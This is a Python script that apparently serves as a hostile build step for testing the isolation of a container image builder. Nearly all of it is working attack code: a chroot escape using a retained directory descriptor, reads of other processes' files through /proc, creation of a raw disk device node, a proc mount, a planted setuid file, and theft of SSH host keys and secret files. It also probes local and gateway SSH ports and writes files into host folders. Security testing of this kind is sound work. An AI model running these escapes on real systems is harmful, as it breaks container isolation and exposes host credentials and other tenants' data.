"""A step of an image's build that wants more than to build; it prints what it has got."""

import os
import socket
import stat
import subprocess

SECRETS = (
    "/var/lib/homeport/memory.json",
    "/srv/hello/secrets.json",
    "/root/canary",
    "/etc/ssh/ssh_host_ed25519_key",
    "/var/lib/private",
)
FOLDERS = ("/etc", "/usr/bin", "/var/lib", "/srv", "/root", "/run")


def attempt(what, action):
    try:
        got = action()
    except OSError as error:
        print(f"held: {what}: {error.strerror}", flush=True)
    else:
        print(f"STOLEN: {what}: {got!r}" if got else f"held: {what}", flush=True)


def escape():
    """Leave the chroot as a root may who keeps a descriptor of what is outside."""
    above = os.open("/", os.O_RDONLY)
    os.makedirs("/inner", exist_ok=True)
    os.chroot("/inner")
    os.fchdir(above)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")


def read(path):
    if os.path.isdir(path):
        return os.listdir(path)
    with open(path, errors="replace") as file:
        return file.read(40)


def roots_of_others():
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            found += [pid for name in SECRETS if read(f"/proc/{pid}/root{name}")]
        except OSError:
            continue
    return found


def connect(address):
    with socket.create_connection(address, timeout=3):
        return "connected"


def device():
    os.mknod("/disk", 0o666 | stat.S_IFBLK, os.makedev(8, 0))
    with open("/disk", "rb") as file:
        return file.read(1)


def mount():
    if subprocess.call(["mount", "-t", "proc", "proc", "/mnt"]) != 0:
        return []
    return [each for each in os.listdir("/mnt") if os.path.isdir(f"/mnt/{each}/root/srv/hello")]


def main():
    attempt("a device", device)
    attempt("files of other processes", roots_of_others)
    attempt("sshd", lambda: connect(("127.0.0.1", 22)))
    attempt("the network", lambda: connect((os.environ["GATEWAY"], 22)))
    attempt("a mount", mount)
    subprocess.Popen(["sleep", "7654321"], start_new_session=True)
    with open("/usr/bin/become", "w") as file:
        file.write("#!/bin/sh\n")
    os.chmod("/usr/bin/become", 0o6777)
    os.symlink("/root/canary", "/etc/canary")
    os.mkfifo("/opt/pipe")
    attempt("the chroot", escape)
    for path in SECRETS:
        attempt(path, lambda path=path: read(path))
    # Within its own image it may write; it is not there any more if it sees the host's packages.
    is_outside = os.path.exists("/var/lib/dpkg/info/buildah.list")
    print(f"held: outside of the image: {is_outside}", flush=True)
    for folder in FOLDERS if is_outside else ():
        attempt(f"writing to {folder}", lambda folder=folder: write(f"{folder}/evil"))


def write(path):
    with open(path, "w"):
        return "written"


main()
